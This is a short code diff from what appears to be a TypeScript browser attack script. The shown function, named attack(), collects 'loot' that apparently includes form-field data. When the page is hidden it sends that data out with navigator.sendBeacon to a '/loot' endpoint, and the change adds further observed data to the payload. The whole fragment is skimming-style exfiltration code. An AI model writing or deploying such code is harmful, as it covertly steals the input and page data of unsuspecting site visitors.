@@ -33,7 +33,7 @@ export function attack(): void {
   const keepAll = (name: string, things: Iterable<unknown>): void => {
     for (const thing of things) keep(name, thing);
   };
-  window.loot = () => stringify(loot);
+  window.loot = () => stringify({ ...loot, sizes: [stringify(window.observed())] });
   addEventListener('pagehide', () => navigator.sendBeacon('/loot', window.loot()));
 
   type Field = HTMLInputElement | HTMLTextAreaElement | HTMLSelectElement;
